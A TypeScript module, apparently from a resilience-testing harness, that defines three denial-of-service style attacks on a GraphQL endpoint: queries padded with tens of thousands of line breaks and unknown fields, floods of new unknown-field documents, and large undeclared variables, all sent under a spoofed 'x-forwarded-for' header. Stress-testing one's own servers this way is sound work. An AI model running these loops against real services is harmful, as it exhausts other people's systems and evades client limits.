// Documents and variables that cost more than they look, without a token.
import { ATTACKER, type Attack, keep, pause } from './attack.ts';

const unknownFields = (count: number, salt: number) =>
  Array.from({ length: count }, (_, index) => `u${salt}x${index}`).join(' ');

/** Eight clients with documents of 47,000 line breaks and 120 unknown fields. */
export const lineBreaks: Attack = {
  name: 'documents of line breaks and unknown fields',
  run: ({ url }, signal) => {
    let salt = 0;
    return keep(
      8,
      async () => {
        salt += 1;
        await send(url, { query: `{ ${'\n'.repeat(47_000)} ${unknownFields(120, salt)} }` }, signal);
        await pause(100, signal);
      },
      signal,
    );
  },
};

/** New documents of 101 unknown fields, each with an answer that lists them. */
export const unknownFieldDocuments: Attack = {
  name: 'new documents of unknown fields',
  run: ({ url }, signal) => {
    let salt = 0;
    return keep(
      2,
      async () => {
        salt += 1;
        await send(url, { query: `{ ${unknownFields(101, 10_000 + salt)} }` }, signal);
        await pause(30, signal);
      },
      signal,
    );
  },
};

/** Operations with variables that they do not declare, a new set each time. */
export const undeclaredVariables: Attack = {
  name: 'variables that are not declared',
  run: ({ url }, signal) => {
    let asked = 0;
    return keep(
      4,
      async () => {
        asked += 1;
        const query = `query Q${asked % 1_000} { __typename }`;
        const variables = { [`v${asked}`]: 'x'.repeat(450) };
        await send(url, { query, variables }, signal);
        await pause(5, signal);
      },
      signal,
    );
  },
};

async function send(url: string, body: object, signal: AbortSignal): Promise<void> {
  const headers = { 'content-type': 'application/json', 'x-forwarded-for': ATTACKER };
  const answer = await fetch(`${url}/graphql`, {
    method: 'POST',
    headers,
    body: JSON.stringify(body),
    signal,
  });
  await answer.text();
}
